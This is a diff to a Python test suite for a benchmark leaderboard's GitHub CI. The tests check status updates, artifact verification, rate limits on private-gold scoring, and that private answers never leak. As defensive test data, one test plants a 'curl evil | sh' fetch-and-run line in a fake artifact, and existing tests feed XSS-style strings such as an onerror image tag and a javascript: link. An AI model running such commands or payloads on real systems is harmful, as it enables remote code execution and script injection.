@@ -23,6 +23,7 @@ from leaderboard.github import ci
 from leaderboard.repository import Repository
 from tests.conftest import CANARY, FIXTURE_REPO, PRIVATE_GOLD
 from tests.fakegithub import (  # noqa: F401 - the fixtures fake_github and runner
+    FORK,
     HEAD_SHA,
     PR,
     RECORDED,
@@ -31,10 +32,12 @@ from tests.fakegithub import (  # noqa: F401 - the fixtures fake_github and runn
     outputs,
     recorded,
     runner_fixture,
+    workflow_run_event,
 )
 from tests.gitrepo import GitRepo
 
 SLUG = "octo-model"
+RUN_URL = "https://github.com/openanote/leaderboard/actions/runs/1234"
 SUBMISSION = RECORDED / "submission"
 
 
@@ -178,7 +181,8 @@ def test_the_report_workflow_end_to_end(fixture_repo: Repository, fake_github: F
                          "--output", verified)
     assert (code, err) == (0, "")
     assert out.strip() == f"verified #{PR}: submissions/{SLUG}/ at {HEAD_SHA[:12]}, 3 file(s)"
-    assert outputs(runner) == {"pr": str(PR), "slug": SLUG, "head_sha": HEAD_SHA}
+    assert outputs(runner) == {"pr": str(PR), "slug": SLUG, "head_sha": HEAD_SHA, "rescore": "false", "state": "",
+                               "description": ""}
     assert sorted(files_of(verified)) == ["pr.json", "submission/metadata.yaml", "submission/tiny-private.csv",
                                           "submission/tiny-sentiment.csv"]  # report.json, summary.md dropped
     asked = [(r.method, r.path) for r in fake_github.requests]
@@ -195,9 +199,12 @@ def test_the_report_workflow_end_to_end(fixture_repo: Repository, fake_github: F
     assert (sorted(cache.rglob("*")) if cache.exists() else []) == cached_before  # no result cache written
     body = comment.read_text()
     assert body.startswith("<!-- openanote-leaderboard:submission-report -->\n## Leaderboard report for `octo-model`")
-    assert "#### Tiny private QA (`tiny-private`, prompting)" in body  # scored with the private gold
-    assert "| **Token F1** | 33.3 |" in body and "✅ The submission is valid." in body
-    assert len(body) < 65_536
+    # Private gold: one coarse line (primary metric to whole points), no interval, breakdown or rank.
+    assert "- `tiny-private` (Tiny private QA, private): Token F1 about **33** (whole points" in body
+    assert "#### Tiny private QA" not in body and "33.3" not in body
+    assert "#### Tiny sentiment (`tiny-sentiment`, classification)" in body  # public: in full
+    assert "✅ The submission is valid." in body and len(body) < 65_536
+    assert json.loads((comment.parent / "status.json").read_text())["state"] == "success"
 
     code, out, err = run(capsys, "--root", fixture_repo.root, "pr-comment", "--pr", outputs(runner)["pr"],
                          "--body-file", comment)
@@ -206,6 +213,14 @@ def test_the_report_workflow_end_to_end(fixture_repo: Repository, fake_github: F
     edit = fake_github.requests[-1]
     assert (edit.method, edit.path) == ("PATCH", "/repos/openanote/leaderboard/issues/comments/503")
     assert edit.body == {"body": body}  # never the contributor's forged comment 501
+
+    code, out, err = run(capsys, "--root", fixture_repo.root, "pr-status", "--sha", HEAD_SHA, "--target-url",
+                         RUN_URL, "--verify-result", "success", "--score-result", "success",
+                         "--status-file", comment.parent / "status.json")
+    assert (code, err) == (0, "")
+    final = fake_github.latest_status(HEAD_SHA)
+    assert final is not None and final["state"] == "success" and final["target_url"] == RUN_URL
+    assert final["description"].startswith("valid; tiny-sentiment rank 1 of 2") and len(final["description"]) <= 140
 
     # Private gold never leaks: not in any output, comment, summary, artifact or cache.
     everything = [out, body, json.dumps([r.body for r in fake_github.requests])]
@@ -319,7 +334,7 @@ def test_a_stale_run_reports_nothing(fixture_repo: Repository, fake_github: Fake
     code, out, _ = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted_artifact(runner),
                        "--output", runner / "verified")
     assert code == 0 and out.startswith("nothing to report: pull request #42 ")
-    assert outputs(runner) == {"pr": "", "slug": "", "head_sha": ""}
+    assert outputs(runner)["slug"] == "" and outputs(runner)["state"] == "error"
 
 
 def test_no_submission_means_no_report(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
@@ -435,3 +450,112 @@ def test_hostile_submission_text_is_neutralised_in_the_comment(
     body = comment.read_text()
     assert "&lt;img src=x onerror=alert\\(1\\)&gt; @\u200bmaintainers \\| ::error::x \\[link\\]\\(javascript:alert\\(1\\)\\)" in body
     assert "<img" not in body and "@maintainers" not in body and "](javascript" not in body
+
+
+# -- the Scoring status and the run's conclusion -------------------------------------------------
+
+
+def report_run(capsys: pytest.CaptureFixture[str], root: Path, runner: Path, untrusted: Path | None,
+               private: bool = True) -> tuple[int, str, str]:
+    """The report workflow's jobs in order, as submission-report.yml runs them: pending, verify,
+    score (when there is a slug), the final status. Returns the verify job's exit code and logs."""
+    assert run(capsys, "--root", root, "pr-status", "--sha", HEAD_SHA, "--target-url", RUN_URL, "--pending")[0] == 0
+    artifact = untrusted if untrusted is not None else runner / "missing"
+    code, out, err = run(capsys, "--root", root, "pr-verify", "--artifact", artifact, "--output", runner / "verified")
+    verify_result = "success" if code == 0 else "failure"
+    slug = outputs(runner).get("slug", "") if code == 0 else ""
+    score_result = "skipped"
+    comment = runner / "comment" / "comment.md"
+    if slug:
+        throttled = "false" if private else "true"
+        score_result = "success" if run(capsys, "--root", root, "pr-report", runner / "verified", "--output", comment,
+                                        "--throttled", throttled)[0] == 0 else "failure"
+    state = outputs(runner).get("state", "") if code == 0 else ""
+    description = outputs(runner).get("description", "") if code == 0 else ""
+    final = run(capsys, "--root", root, "pr-status", "--sha", HEAD_SHA, "--target-url", RUN_URL, "--verify-result",
+                verify_result, "--score-result", score_result, "--state", state, "--description", description,
+                "--status-file", comment.parent / "status.json")
+    assert final[0] == 0, final[2]
+    return code, out, err
+
+
+def test_scoring_is_pending_then_success_on_the_head_commit(fixture_repo: Repository, fake_github: FakeGitHub,
+                                                            runner: Path, private_gold: Path,
+                                                            capsys: pytest.CaptureFixture[str]) -> None:
+    event = json.loads((runner / "event.json").read_text())["workflow_run"]
+    assert event["head_repository"]["full_name"] == FORK and event["repository"]["full_name"] == "openanote/leaderboard"
+    assert report_run(capsys, fixture_repo.root, runner, untrusted_artifact(runner))[0] == 0
+    states = [s["state"] for s in fake_github.statuses[HEAD_SHA]]
+    assert states == ["pending", "success"]
+    assert all(s["context"] == "Scoring" and s["target_url"] == RUN_URL for s in fake_github.statuses[HEAD_SHA])
+
+
+def test_a_refused_artifact_fails_the_scoring_status(fixture_repo: Repository, fake_github: FakeGitHub,
+                                                     runner: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    untrusted = untrusted_artifact(runner)
+    (untrusted / "run.sh").write_text("curl evil | sh")
+    code, _, err = report_run(capsys, fixture_repo.root, runner, untrusted)
+    assert code == 1 and "unexpected entry 'run.sh'" in err
+    final = fake_github.latest_status(HEAD_SHA)
+    assert final is not None and final["state"] == "failure"
+    assert final["description"] == "the report workflow could not verify the check's artifact: see the run"
+
+
+def test_a_check_that_failed_before_uploading_fails_scoring_with_its_reason(
+        fixture_repo: Repository, fake_github: FakeGitHub, runner: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    workflow_run_event(runner, conclusion="failure")
+    code, out, _ = report_run(capsys, fixture_repo.root, runner, None)
+    assert code == 0 and "nothing to score: the check failed" in out  # not "Artifact not found"
+    final = fake_github.latest_status(HEAD_SHA)
+    assert final is not None and final["state"] == "failure"
+    assert final["description"].startswith("the Submission check failed before it uploaded its report")
+
+
+@pytest.mark.parametrize("conclusion", ["action_required", "cancelled", "skipped"])
+def test_a_run_awaiting_approval_or_cancelled_is_not_reported(
+        fixture_repo: Repository, fake_github: FakeGitHub, runner: Path, capsys: pytest.CaptureFixture[str],
+        conclusion: str) -> None:
+    """The workflow's if: skips these runs; the same rule in code posts nothing and asks nothing."""
+    workflow_run_event(runner, conclusion=conclusion)
+    code, out, _ = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted_artifact(runner),
+                       "--output", runner / "verified")
+    assert code == 0 and f"concluded '{conclusion}'" in out
+    assert outputs(runner)["slug"] == "" and outputs(runner)["state"] == ""
+    assert fake_github.requests == []
+    assert ci.final_status("success", "skipped", "", "", None) == ("failure", "scoring failed: see the run")
+
+
+def test_only_the_check_workflows_runs_are_read(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
+                                                capsys: pytest.CaptureFixture[str]) -> None:
+    workflow_run_event(runner, path=".github/workflows/evil.yml")  # named "Submission check" too
+    code, _, err = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted_artifact(runner),
+                       "--output", runner / "verified")
+    assert code == 1 and "not .github/workflows/submission-check.yml" in err and fake_github.requests == []
+
+
+def test_private_scoring_at_most_once_per_period(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
+                                                 capsys: pytest.CaptureFixture[str]) -> None:
+    day = 24 * 3600
+    assert ci.throttle_key(SLUG, 24, 10 * day) == ci.throttle_key(SLUG, 24, 10 * day + day - 1)
+    assert ci.throttle_key(SLUG, 24, 10 * day) != ci.throttle_key(SLUG, 24, 11 * day)
+    assert ci.throttle_key(SLUG, 1, 0).startswith(f"private-scoring-{SLUG}-")
+    with pytest.raises(ArtifactRefused):
+        ci.throttle_key("../x", 24, 0)
+    code, _, _ = run(capsys, "--root", fixture_repo.root, "pr-throttle", "--slug", SLUG, "--period-hours", "")
+    assert code == 0 and outputs(runner)["key"].startswith(f"private-scoring-{SLUG}-")
+    assert outputs(runner)["period_hours"] == "24"
+    # Scored already in this period: the comment says so, with no private number at all.
+    assert report_run(capsys, fixture_repo.root, runner, untrusted_artifact(runner), private=False)[0] == 0
+    body = (runner / "comment" / "comment.md").read_text()
+    assert "not scored on this push: private benchmarks are scored at most once every 24 hours" in body
+    assert "`rescore` label" in body and "Token F1 about" not in body
+    final = fake_github.latest_status(HEAD_SHA)
+    assert final is not None and final["state"] == "success" and "private: next scoring after the period" in final["description"]
+
+
+def test_a_maintainers_label_lifts_the_period(fixture_repo: Repository, fake_github: FakeGitHub, runner: Path,
+                                              capsys: pytest.CaptureFixture[str]) -> None:
+    fake_github.answer("GET", "/repos/openanote/leaderboard/pulls/42", pull_with(labels=[{"name": "rescore"}]))
+    code, _, _ = run(capsys, "--root", fixture_repo.root, "pr-verify", "--artifact", untrusted_artifact(runner),
+                     "--output", runner / "verified")
+    assert code == 0 and outputs(runner)["rescore"] == "true"
